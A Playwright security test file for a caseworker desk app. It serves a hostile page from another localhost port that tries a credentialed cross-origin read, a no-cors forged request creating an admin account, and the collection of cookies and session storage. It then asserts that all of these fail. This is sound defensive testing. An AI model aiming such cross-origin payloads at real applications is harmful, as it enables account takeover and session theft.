import http from 'node:http';
import type { AddressInfo } from 'node:net';
import { ADMIN, apiAs, expect, login, screenshot, test } from './fixtures';

// Issue 11.2: another program on this machine serves a page on another 127.0.0.1 port, in the same browser the
// caseworker is signed in with. Whatever that page and its server can see must not open the desk.

interface Seen {
  cookieHeaders: string[];
  reports: { cookie: string; session: string | null; local: number; readDesk: string }[];
}

/** A page on another port that reports what it can see of the desk, and tries to drive it. */
function foreignPage(deskOrigin: string): string {
  return `<!doctype html><meta charset="utf-8"><title>其他程序的网页</title><script>
(async () => {
  let readDesk = '';
  try { readDesk = await (await fetch('${deskOrigin}/api/call', { method: 'POST', credentials: 'include', headers: { 'Content-Type': 'application/json' }, body: JSON.stringify({ method: 'users.list', input: {} }) })).text(); }
  catch (e) { readDesk = 'blocked: ' + e.message; }
  // A "simple" request, sent without asking first; the answer is unreadable, the side effect is what counts.
  await fetch('${deskOrigin}/api/call', { method: 'POST', mode: 'no-cors', credentials: 'include', headers: { 'Content-Type': 'text/plain' },
    body: JSON.stringify({ method: 'users.create', input: { username: 'intruder', displayName: '入侵者', role: '管理员', password: 'intruder-pass-1' } }) }).catch(() => {});
  await fetch('/report', { method: 'POST', body: JSON.stringify({ cookie: document.cookie, session: sessionStorage.getItem('desk.session'), local: localStorage.length, readDesk }) });
  document.body.textContent = '已报告';
})();
</script>`;
}

async function startForeignServer(
  deskOrigin: string,
): Promise<{ url: string; seen: Seen; close: () => Promise<void> }> {
  const seen: Seen = { cookieHeaders: [], reports: [] };
  const server = http.createServer((req, res) => {
    if (req.headers.cookie) seen.cookieHeaders.push(req.headers.cookie);
    if (req.method === 'POST' && req.url === '/report') {
      let body = '';
      req.on('data', (c: Buffer) => (body += c.toString()));
      req.on('end', () => {
        seen.reports.push(JSON.parse(body) as Seen['reports'][number]);
        res.end('ok');
      });
      return;
    }
    res.setHeader('Content-Type', 'text/html; charset=utf-8');
    res.end(foreignPage(deskOrigin));
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const { port } = server.address() as AddressInfo;
  return {
    url: `http://127.0.0.1:${port}/`,
    seen,
    close: () => new Promise((resolve) => server.close(() => resolve())),
  };
}

test('a page on another 127.0.0.1 port gets no credential, and nothing it can see or send opens the desk', async ({
  page,
  desk,
}) => {
  await login(page, desk);
  const deskOrigin = new URL(desk.url).origin;
  const foreign = await startForeignServer(deskOrigin);
  try {
    // The same browser, the same profile: a second tab opens the other program's page.
    const other = await page.context().newPage();
    await other.goto(foreign.url);
    await expect(other.getByText('已报告')).toBeVisible();
    expect(foreign.seen.reports).toHaveLength(1);
    const report = foreign.seen.reports[0]!;

    // Nothing of the desk reached the other port: no cookie in its requests, none in document.cookie, no session.
    expect(foreign.seen.cookieHeaders).toEqual([]);
    expect(report).toMatchObject({ cookie: '', session: null, local: 0 });
    expect(report.readDesk).not.toContain('管理员');

    // Replaying whatever it saw is refused; so is its attempt to create a user.
    const replay = await page.request.post(`${deskOrigin}/api/call`, {
      headers: {
        cookie: [...foreign.seen.cookieHeaders, report.cookie].join('; '),
        origin: new URL(foreign.url).origin,
      },
      data: { method: 'users.list', input: {} },
    });
    expect(replay.status()).toBe(403);
    const admin = await apiAs(desk, ADMIN);
    const users = (await admin.call('users.list', {})).value as { username: string }[];
    expect(users.map((u) => u.username)).toEqual([ADMIN.username]);
    await admin.api.dispose();

    // The caseworker's own tab is untouched: still signed in after a reload.
    await page.reload();
    await expect(page.getByRole('heading', { name: '首页', exact: true })).toBeVisible();
    await screenshot(page, 'session-after-reload');
  } finally {
    await foreign.close();
  }
});

test('the session belongs to its tab: a reload keeps it, a new tab with the same address must sign in', async ({
  page,
  desk,
}) => {
  await login(page, desk);
  await page.reload();
  await expect(page.getByRole('heading', { name: '首页', exact: true })).toBeVisible();
  const second = await page.context().newPage();
  await second.goto(desk.url);
  await expect(second.getByRole('button', { name: '登录', exact: true })).toBeVisible();
  await screenshot(second, 'session-new-tab-login');
});

test('the administrator sets after how many idle minutes a session ends, under 设置 → 常规', async ({ page, desk }) => {
  await login(page, desk);
  await page.evaluate(() => (location.hash = '#/settings'));
  const idle = page.getByLabel('无操作自动退出登录（分钟）');
  await expect(idle).toHaveValue('30');
  await idle.fill('3');
  await page.getByRole('button', { name: '保存', exact: true }).click();
  await expect(page.getByText('自动退出登录的时间不能少于 5 分钟')).toBeVisible();
  await idle.fill('60');
  await page.getByRole('button', { name: '保存', exact: true }).click();
  await expect(page.getByText('已保存')).toBeVisible();
  await screenshot(page, 'settings-session-idle');
  await page.reload();
  await expect(page.getByLabel('无操作自动退出登录（分钟）')).toHaveValue('60');
});
